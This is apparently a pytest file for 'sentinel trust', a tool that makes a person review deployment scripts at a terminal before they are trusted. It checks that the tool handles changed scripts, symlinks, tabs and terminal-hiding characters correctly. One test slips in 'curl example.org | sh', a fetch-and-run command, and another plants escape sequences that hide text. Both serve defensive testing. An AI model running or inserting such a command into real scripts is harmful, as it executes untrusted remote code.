"""`sentinel trust`: a person reads everything that would be executed, on a real terminal."""

from tests.protocol.installation import Installation
from tests.protocol.small import Small


def test_trust_shows_all_that_would_be_executed_and_later_only_what_changed(site: Installation, small: Small) -> None:
    without = site.run("trust")
    assert (without.code, without.out) == (1, "")
    assert without.err.startswith("sentinel: `sentinel trust` requires a real terminal, where a person confirms it.\n")
    refused = site.at_terminal("trust", typed="y", prompt="to trust): ")
    assert refused.code == 1
    assert "sentinel: Nothing was trusted.\n" in refused.out
    trusted = site.trust()
    assert trusted.code == 0
    for path in ("sentinel.toml", *(f"deploy/{name}.sh" for name in ("staging", "smoke", "production", "rollback"))):
        assert f"=== {path} (new)\n{(small.root / path).read_text()}" in trusted.out
    assert trusted.out.endswith("Trusted: sentinel.toml and 4 scripts.\n")
    assert site.trust().out.endswith("All of this is trusted already.\n")
    small.script("smoke", "exit 0")
    small.commit("Smoke less")
    changed = site.trust().out
    assert "=== sentinel.toml (unchanged)\n" in changed
    assert "=== deploy/smoke.sh (changed)\n--- trusted\n+++ now\n" in changed
    assert "\n-true\n+exit 0\n" in changed


def test_what_changes_while_it_is_read_is_not_trusted(site: Installation, small: Small) -> None:
    def change() -> None:
        small.script("production", "curl example.org | sh")
        small.commit("Slip something in")

    refused = site.at_terminal("trust", typed="yes", prompt="to trust): ", meanwhile=change)
    assert refused.code == 1
    assert "sentinel: The head of the branch has changed since it was shown.\n" in refused.out
    assert "=== deploy/production.sh (new)\n" in site.trust().out


def test_trust_shows_what_a_terminal_would_obey_or_hide(site: Installation, small: Small) -> None:
    small.script("smoke", "true # \x1b[8m hidden \N{RIGHT-TO-LEFT OVERRIDE}")
    small.commit("Hide")
    shown = site.trust().out
    assert "\x1b" not in shown
    assert "\N{RIGHT-TO-LEFT OVERRIDE}" not in shown
    assert r"true # \x1b[8m hidden \u202e" in shown


def test_a_tab_in_place_of_blanks_is_shown_as_a_change(site: Installation, small: Small) -> None:
    small.script("smoke", "    true")
    small.commit("Four blanks")
    assert site.trust().code == 0
    small.script("smoke", "\ttrue")
    small.commit("One tab")
    changed = site.trust().out
    assert "=== deploy/smoke.sh (changed)" in changed
    assert "-    true" in changed
    assert "+\N{RIGHTWARDS ARROW}   true" in changed


def test_a_script_behind_a_linked_folder_is_not_trusted(site: Installation, small: Small) -> None:
    (small.root / "current").symlink_to("deploy")
    for command in ("current/smoke.sh", "cd current && ./smoke.sh", "env -C current ./smoke.sh"):
        small.change_policy({"staging": {"smoke": command}})
        small.commit("Go through a link")
        refused = site.trust()
        assert refused.code != 0, refused.out
        assert "leads through the symbolic link current" in refused.out + refused.err


def test_folders_that_the_policy_names_are_pinned(site: Installation, small: Small) -> None:
    small.write("deploy/lib.sh", "version=1\n")
    small.change_policy({"trust": {"also": ["deploy/**"]}, "staging": {"smoke": "make -C deploy smoke"}})
    small.commit("Pin the folder")
    shown = site.trust().out
    assert "=== deploy/lib.sh (new)" in shown
    assert "Sentinel cannot tell which files `make -C deploy smoke` starts" in shown
    small.write("deploy/lib.sh", "version=2\n")
    small.commit("Change it")
    again = site.trust().out
    assert "-version=1\n+version=2\n" in again
